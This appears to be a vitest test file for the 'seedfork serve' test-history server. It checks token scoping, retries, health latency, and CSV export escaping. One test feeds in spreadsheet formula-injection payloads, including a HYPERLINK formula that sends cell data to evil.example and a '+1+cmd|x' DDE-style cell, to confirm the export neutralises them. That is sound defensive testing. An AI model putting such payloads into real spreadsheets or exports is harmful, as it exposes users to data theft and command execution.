import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { runCli } from './support/cli.js';
import { startHistoryServer } from './support/history-server.js';
import { makeProject, REPO } from './support/project.js';

const SAMPLE = join(REPO, 'test/fixtures/junit/jest-junit.xml');

describe('seedfork serve: the ingest API and its tokens', () => {
  test('a service token ingests for its service only; no token or a wrong one is refused; a server that is down is retried, then named', async () => {
    const dir = makeProject('history-server', { '.keep': '' });
    const token = async (args: string[]) => {
      const r = await runCli(dir, ['token', 'create', ...args]);
      expect(r.code, r.out).toBe(0);
      return r.out.split('\n')[0]!.trim();
    };
    const api = await token(['--service', 'api']);
    const web = await token(['--service', 'web']);
    expect(api).toMatch(/^sft_[\w-]{40,}$/);
    expect((await runCli(dir, ['token', 'create'])).out).toMatch(/needs --service/);

    const { server, url } = await startHistoryServer(dir);
    expect(url, server.output()).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    try {
      const job = ['ingest', SAMPLE, '--service', 'api', '--build', '1', '--server', url, '--gate'];
      const first = await runCli(dir, job, { SEEDFORK_TOKEN: api });
      expect(first.code, first.out).toBe(1); // the sample has a failing test: the gate says so
      expect(first.out).toMatch(/stored 2 test result\(s\), 1 failed/);
      expect((await runCli(dir, job, { SEEDFORK_TOKEN: api })).out).toMatch(/already in the history/);
      // another service's token
      const wrong = await runCli(dir, job, { SEEDFORK_TOKEN: web });
      expect(wrong.code).toBe(2);
      expect(wrong.out).toMatch(/answered 403: this token may ingest for web only, not api/);
      // no token, an unknown token
      expect((await runCli(dir, job)).out).toMatch(/--server needs a token: set SEEDFORK_TOKEN/);
      expect((await runCli(dir, job, { SEEDFORK_TOKEN: 'sft_forged' })).out).toMatch(/answered 401/);
      // the same job with other reports: 409, the reason passed on
      const other = await runCli(
        dir,
        [...job.slice(0, 1), join(REPO, 'test/fixtures/junit/pytest.xml'), ...job.slice(2)],
        {
          SEEDFORK_TOKEN: api,
        },
      );
      expect(other.out).toMatch(/answered 409: .*--replace/);
      // reading: open to this machine
      const verdicts = (await (await fetch(`${url}/api/v1/flaky?since=3650d`)).json()) as {
        service: string;
      }[];
      expect(verdicts.length).toBe(2);
      expect(new Set(verdicts.map((v) => v.service))).toEqual(new Set(['api']));
      // a bad request body
      const bad = await fetch(`${url}/api/v1/runs`, {
        method: 'POST',
        headers: { authorization: `Bearer ${api}` },
        body: 'not json',
      });
      expect(bad.status).toBe(400);
    } finally {
      server.child.kill('SIGTERM');
      await server.exited;
    }
    // the server is gone: the client retries with backoff, then says what happened
    const started = Date.now();
    const down = await runCli(dir, [
      'ingest',
      SAMPLE,
      '--service',
      'api',
      '--build',
      '2',
      '--server',
      url,
      '--token',
      api,
    ]);
    expect(down.code).toBe(2);
    expect(down.out).toMatch(/cannot reach http:\/\/127\.0\.0\.1:\d+: .*gave up after 4 attempts/);
    expect(Date.now() - started).toBeGreaterThan(3000);
  });

  test('the CSV export neutralises cells a spreadsheet would run as formulas, and keeps plain ones as they are', async () => {
    const dir = makeProject('history-csv', { '.keep': '' });
    const service = '@ops';
    const token = (await runCli(dir, ['token', 'create', '--service', service])).out.split('\n')[0]!.trim();
    // each leading character OWASP names, in a test name, a file and the service; and a control
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&amp;A1,"open")',
      '+1+cmd|x',
      '-2+3',
      '@SUM(1,2)',
      '&#9;=1+1',
      '&#13;=1+1',
    ];
    const cases = hostile.map((name, i) => `<testcase classname="=file${i}.js" name='${name}' time="0.01"/>`);
    cases.push('<testcase classname="plain.js" name="plain - with = and @ inside" time="0.01"/>');
    const report = join(dir, 'hostile.xml');
    writeFileSync(
      report,
      `<?xml version="1.0"?><testsuites><testsuite name="">${cases.join('')}</testsuite></testsuites>\n`,
    );
    const { server, url } = await startHistoryServer(dir);
    try {
      const job = ['ingest', report, '--service', service, '--build', '1', '--server', url];
      const stored = await runCli(dir, job, { SEEDFORK_TOKEN: token });
      expect(stored.code, stored.out).toBe(0);
      const csv = await (await fetch(`${url}/api/v1/flaky.csv?since=3650d`)).text();
      const rows = parseCsv(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
      expect(rows).toHaveLength(7);
      for (const row of rows)
        for (const [column, cell] of Object.entries(row))
          expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r\0]/);
      const names = new Map(rows.map((r) => [r.name!.replace(/^'/, ''), r]));
      // the attack is kept as text, behind the quote spreadsheets read as "text"
      expect(names.get('=HYPERLINK("http://evil.example/?"&A1,"open")')?.name).toBe(
        `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
      );
      expect(names.get('\t=1+1')?.name).toBe("'\t=1+1");
      expect(names.get('\r=1+1')?.name).toBe("'\r=1+1");
      expect(rows.every((r) => r.service === "'@ops")).toBe(true);
      expect(names.get('-2+3')?.file).toMatch(/^'=file\d\.js$/);
      // the control: a plain cell, and numbers, unchanged
      const plain = names.get('plain - with = and @ inside')!;
      expect(plain).toMatchObject({ name: 'plain - with = and @ inside', file: 'plain.js', runs: '1' });
    } finally {
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });

  test('health keeps answering while a large report is parsed and stored', async () => {
    const dir = makeProject('history-large', { '.keep': '' });
    const token = (await runCli(dir, ['token', 'create', '--service', 'big'])).out.split('\n')[0]!.trim();
    const tests = 60_000;
    const cases = Array.from(
      { length: tests },
      (_, i) => `<testcase classname="test/f${i % 60}.test.js" name="case ${i}" time="0.001"/>`,
    );
    const xml = `<?xml version="1.0"?><testsuites><testsuite name="s">${cases.join('\n')}</testsuite></testsuites>`;
    const body = JSON.stringify({
      service: 'big',
      build: '1',
      reports: [{ name: 'junit.xml', content: Buffer.from(xml).toString('base64') }],
    });
    const { server, url } = await startHistoryServer(dir);
    try {
      const latencies: number[] = [];
      let ingesting = true;
      const sampler = (async () => {
        while (ingesting) {
          const started = performance.now();
          const health = await fetch(`${url}/api/v1/health`);
          expect(health.status).toBe(200);
          await health.arrayBuffer();
          latencies.push(performance.now() - started);
          await new Promise((done) => setTimeout(done, 20));
        }
      })();
      const started = performance.now();
      const answer = await fetch(`${url}/api/v1/runs`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body,
      });
      const ingestMs = performance.now() - started;
      ingesting = false;
      await sampler;
      expect(answer.status, server.output()).toBe(200);
      expect(await answer.json()).toMatchObject({ stored: 'new', tests });
      // a server that parsed and stored in one go would answer health once, after the ingest;
      // this one answers throughout (the bench measures the latency: npm run bench:server)
      expect(latencies.length, `${Math.round(ingestMs)} ms ingest`).toBeGreaterThanOrEqual(10);
      expect(Math.max(...latencies), `${Math.round(ingestMs)} ms ingest`).toBeLessThan(ingestMs / 2);
    } finally {
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });
});
